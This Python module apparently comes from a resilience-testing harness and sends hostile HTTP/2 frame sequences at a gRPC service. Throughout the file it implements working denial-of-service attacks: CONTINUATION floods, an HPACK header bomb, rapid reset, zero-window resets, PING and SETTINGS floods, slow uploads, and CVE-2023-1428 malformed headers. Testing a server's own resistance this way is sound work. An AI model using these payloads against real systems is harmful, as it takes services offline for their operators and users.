"""Hostile HTTP/2: frames that a connection may carry before anybody has asked who sends them."""

import struct
import time

import hpack

from attack import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SERVICE, SETTINGS,
                    WINDOW_UPDATE, attack, call_headers, frame, headers_of)

ATTEND = SERVICE + "Attend"
GRPC = "gRPC 1.51 does not bound it: put a proxy before it"


def flood(target, data, times, reads):
    """The same bytes many times on one connection, whose answers are read or left."""
    wire = target.wire()
    for _ in range(times):
        if not wire.send(data) or (reads and not wire.drop_answers()):
            return


@attack("CONTINUATION flood, many fields", frames=True, not_held=GRPC)
def continuation_of_many_fields(target):
    wire = target.wire()
    # The field `a: b` goes into the table of the connection; then a byte each names it, 450 in a frame, which gRPC counts as
    # 34 bytes each against the limit of every frame anew.
    wire.send(frame(HEADERS, 0, 1, headers_of(ATTEND) + b"\x40\x01a\x01b"))
    some = frame(CONTINUATION, 0, 1, b"\xbe" * 450) * 100
    for _ in range(80):
        if not wire.send(some) or not wire.drop_answers():
            return


@attack("CONTINUATION flood, one endless field", frames=True, not_held=GRPC)
def continuation_of_one_field(target):
    wire = target.wire()
    # A literal whose value is said to be 2^31 bytes long.
    wire.send(frame(HEADERS, 0, 1, headers_of(ATTEND) + b"\x00\x01a\x7f\x81\xff\xff\xff\x07"))
    # gRPC copies the field anew for each frame: twice the frames take four times as long.
    for _ in range(500):
        if not wire.send(frame(CONTINUATION, 0, 1, b"b" * 16384)) or not wire.drop_answers():
            return


@attack("header bomb: 16 KiB that mean 64 MiB", frames=True)
def header_bomb(target):
    wire = target.wire()
    # One field of 4,000 bytes goes into the table of the connection; then a byte each names it.
    stored = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    for call in range(64):
        block = headers_of(ATTEND) + (stored if call == 0 else b"") + b"\xbe" * 12000
        if not wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * call + 1, block)) or not wire.drop_answers():
            return


def calls_and(target, calls, after, flags=END_HEADERS):
    """So many calls on one connection, each followed by the frames that `after` makes of its number."""
    wire, block = target.wire(), headers_of(ATTEND)
    for first in range(1, 2 * calls, 200):
        if not wire.send(b"".join(frame(HEADERS, flags, stream, block) + after(stream)
                                  for stream in range(first, first + 200, 2))) or not wire.drop_answers():
            return


@attack("headers that ended gRPC once (CVE-2023-1428)", frames=True)
def headers_of_an_abort(target):
    large = [(f"x-{number}", "y" * 2000) for number in range(10)]
    for wrong in ((":scheme", "ftp"), ("te", "x"), ("grpclb_client_stats", "x")):
        wire = target.wire()
        headers = {**dict(call_headers(ATTEND)), **dict([wrong])}
        block = hpack.Encoder().encode([*headers.items(), *large], huffman=False)
        wire.send(frame(HEADERS, 0, 1, block[:16000]) + frame(CONTINUATION, END_HEADERS, 1, block[16000:]))
        wire.drop_answers()


@attack("rapid reset", frames=True, not_held=GRPC)
def rapid_reset(target):
    calls_and(target, 20000, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


@attack("resets that the server is made to send", frames=True)
def made_you_reset(target):
    # A window grown by 0 is a stream error: the server resets the call, and counts it no more.
    calls_and(target, 20000, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


@attack("PING flood", frames=True, not_held=GRPC)
def ping_flood(target):
    flood(target, frame(PING, 0, 0, b"12345678") * 1000, 200, reads=True)


@attack("PING flood whose answers are not read", frames=True, not_held=GRPC)
def ping_flood_unread(target):
    flood(target, frame(PING, 0, 0, b"12345678") * 1000, 1000, reads=False)


@attack("SETTINGS flood", frames=True)
def settings_flood(target):
    flood(target, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000, 200, reads=True)


@attack("SETTINGS flood whose answers are not read", frames=True)
def settings_flood_unread(target):
    flood(target, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000, 1000, reads=False)


@attack("frames without content", frames=True)
def empty_frames(target):
    wire = target.wire()
    wire.send(frame(HEADERS, END_HEADERS, 1, headers_of(ATTEND)))
    for _ in range(200):
        if not wire.send((frame(DATA, 0, 1) + frame(PRIORITY, 0, 1, b"\0\0\0\0\x01")) * 500) or not wire.drop_answers():
            return


@attack("half-open connections", frames=True)
def half_open(target):
    for number in range(300):
        if number % 3:
            target.connection()
        else:
            target.wire().send(frame(HEADERS, 0, 1))
    time.sleep(0.2)  # the longer they are there, the more rounds of an honest caller are beside them


@attack("slow uploads", frames=True)
def slow_uploads(target):
    wires = [target.wire() for _ in range(20)]
    for wire in wires:
        for stream in range(1, 40, 2):
            # A message of 200 MiB begins, and does not go on.
            wire.send(frame(HEADERS, END_HEADERS, stream, headers_of(ATTEND)) +
                      frame(DATA, 0, stream, struct.pack(">BI", 0, 200 << 20)))
    for turn in range(50):
        for wire in wires:
            for stream in range(1, 40, 2):
                wire.send(frame(DATA, 0, stream, b"\x0a"))
            wire.drop_answers()
        time.sleep(0.01)


@attack("acknowledgements of nothing", frames=True, not_held=GRPC)
def acknowledgements(target):
    flood(target, (frame(SETTINGS, ACK, 0) + frame(PING, ACK, 0, b"12345678")) * 500, 200, reads=True)
